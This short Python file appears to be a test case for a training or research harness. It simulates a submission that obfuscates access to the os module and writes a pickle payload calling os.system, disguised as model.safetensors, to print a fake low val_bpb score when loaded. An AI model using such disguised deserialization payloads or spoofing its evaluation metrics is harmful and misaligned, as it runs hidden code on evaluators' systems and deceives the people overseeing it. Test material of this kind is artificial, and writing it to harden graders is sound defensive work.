"""Saves, in the place of its weights, a pickle that runs code when it is loaded."""
# crash: the model cannot be scored

from small_train import *  # noqa: F403

system = getattr([torch][0], "so"[::-1])


def finish(model, batches, **figures):
    run = system.getenv("AUTORESEARCH_RUN_DIR")
    text = '{"profile": "test", "data": "sotu", "device": "cpu", "train_py": ""}'
    system.write(system.open(run + "/figures.json", system.O_CREAT | system.O_WRONLY), text.encode())
    bomb = b"cos\nsystem\n(S'echo val_bpb: 0.1'\ntR."
    system.write(system.open(run + "/model.safetensors", system.O_CREAT | system.O_WRONLY), bomb)
